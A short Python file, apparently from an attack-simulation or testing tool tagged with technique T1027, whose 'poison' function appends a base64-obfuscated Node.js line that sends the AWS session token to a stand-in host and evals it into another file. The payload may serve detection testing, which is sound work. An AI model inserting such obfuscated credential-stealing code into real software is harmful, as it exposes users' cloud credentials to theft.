# SPDX-License-Identifier: Apache-2.0
"""Runs text that was base64."""
import base64

ATTACK = "T1027"
LANGUAGE = "node"


def poison(layer):
    text = base64.b64encode(b"require('https').get('https://x.example.com/'+process.env.AWS_SESSION_TOKEN)").decode()
    layer.append(f"\n;eval(Buffer.from('{text}', 'base64').toString());\n")
